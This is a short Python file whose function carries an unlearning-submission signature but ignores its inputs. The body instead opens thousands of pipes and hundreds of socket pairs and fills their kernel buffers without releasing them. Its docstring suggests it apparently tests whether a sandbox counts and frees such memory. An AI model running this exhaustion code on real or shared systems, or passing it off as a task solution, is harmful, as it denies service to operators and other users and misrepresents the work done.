"""Fills pipes and sockets to their capacity and leaves them full; the memory must count and be released."""

import contextlib
import fcntl
import os
import socket


def unlearning(net, retain, forget, val):
    kept = []
    with contextlib.suppress(OSError):
        while True:
            read, write = os.pipe2(os.O_NONBLOCK)
            kept += [read, write]
            with contextlib.suppress(OSError):
                fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 1 << 20)
            with contextlib.suppress(BlockingIOError):
                os.write(write, bytes(1 << 20))
            if len(kept) > 2_000:
                break
    for _ in range(200):
        one, other = socket.socketpair()
        one.setblocking(False)
        kept += [one, other]
        with contextlib.suppress(BlockingIOError):
            while True:
                one.send(bytes(1 << 16))
